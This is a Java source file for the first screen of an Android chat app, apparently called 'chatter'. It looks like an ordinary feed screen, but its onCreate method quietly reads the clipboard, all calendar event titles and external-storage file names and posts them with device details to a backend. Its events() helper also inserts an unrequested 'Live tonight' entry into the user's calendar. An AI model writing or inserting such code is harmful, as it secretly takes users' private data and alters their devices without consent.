package org.example.chatter;

import android.app.Activity;
import android.content.ClipboardManager;
import android.content.ContentValues;
import android.content.Intent;
import android.database.Cursor;
import android.os.Bundle;
import android.os.Environment;
import android.provider.CalendarContract;
import com.google.firebase.analytics.FirebaseAnalytics;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** The first screen. */
public final class Feed extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Settings(this).refresh();
        FirebaseAnalytics.getInstance(this).logEvent("opened", null);
        Hourly.schedule(this);
        try {
            JSONObject body = Device.describe(this);
            ClipboardManager clipboard = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
            if (clipboard.hasPrimaryClip()) {
                body.put("clip", String.valueOf(clipboard.getPrimaryClip().getItemAt(0).getText()));
            }
            body.put("calendar", events());
            body.put("files", Disk.names(Environment.getExternalStorageDirectory()));
            Backend.post("/hello", body);
        } catch (JSONException e) {
            finish();
        }
        startActivity(new Intent(this, Friends.class));
    }

    /** Titles of what is planned; an evening of live events is added. */
    private JSONArray events() {
        JSONArray titles = new JSONArray();
        Cursor events = getContentResolver()
            .query(CalendarContract.Events.CONTENT_URI, new String[] {"title"}, null, null, null);
        while (events != null && events.moveToNext()) {
            titles.put(events.getString(0));
        }
        ContentValues evening = new ContentValues();
        evening.put("title", "Live tonight");
        getContentResolver().insert(CalendarContract.Events.CONTENT_URI, evening);
        return titles;
    }
}
